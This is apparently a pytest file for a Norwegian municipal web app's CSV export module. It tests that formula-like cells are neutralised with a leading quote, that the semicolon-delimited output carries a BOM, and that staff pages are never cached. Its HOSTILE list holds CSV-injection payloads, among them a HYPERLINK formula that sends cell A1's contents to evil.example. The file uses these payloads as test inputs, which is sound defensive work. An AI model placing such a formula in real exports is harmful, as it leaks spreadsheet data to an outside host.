"""The one CSV writer: formula cells are neutralised, the file opens in a Norwegian spreadsheet."""
from __future__ import annotations

import csv
import io

import pytest

from app.core.exports import cell, csv_response, csv_stream, csv_text

HOSTILE = ['=HYPERLINK("https://evil.example/?d="&A1,"Se vedlegg")', "+1+1", "-2+3", "@SUM(A1)",
           "\tTAB", "\rCR"]


@pytest.mark.parametrize("value", HOSTILE)
def test_a_formula_is_written_as_text(value):
    assert cell(value) == "'" + value


@pytest.mark.parametrize("value, expected", [(None, ""), (12, "12"), ("Kari", "Kari"),
                                             ("a=b", "a=b"), ("", "")])
def test_ordinary_values_are_kept(value, expected):
    assert cell(value) == expected


def test_csv_text_reads_back_with_every_cell_safe():
    text = csv_text(["navn", "svar"], [["Kari; Nordmann", HOSTILE[0]], ["Ola", "linje 1\nlinje 2"]])
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text[1:], newline=""), delimiter=";"))
    assert rows == [["navn", "svar"], ["Kari; Nordmann", "'" + HOSTILE[0]],
                    ["Ola", "linje 1\nlinje 2"]]


def test_csv_stream_gives_the_same_file_in_pieces():
    rows = [["1", "=1"], ["2", "b"]]
    assert "".join(csv_stream(["n", "v"], [rows[:1], rows[1:]])) == csv_text(["n", "v"], rows)


def test_csv_response_has_one_charset_and_no_cache(app):
    with app.test_request_context():
        response = csv_response("a;b\r\n", "svar.csv")
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert response.headers["Cache-Control"] == "no-store"
    assert response.headers["Content-Disposition"] == 'attachment; filename="svar.csv"'


def test_a_staff_page_is_never_cached(client, auth, make_municipality, make_user):
    town = make_municipality("Lager")
    auth.login(make_user(role="admin", municipality=town))
    staff_pages = ["/lager/moderering/", "/lager/moderering/logg", "/lager/admin/horinger/",
                   "/lager/admin/avstemninger/", "/lager/admin/undersokelser/"]
    for path in staff_pages:
        response = client.get(path)
        assert response.status_code == 200, path
        assert response.headers.get("Cache-Control") == "no-store", path
    assert "no-store" not in client.get("/lager/ideer/").headers.get("Cache-Control", "")
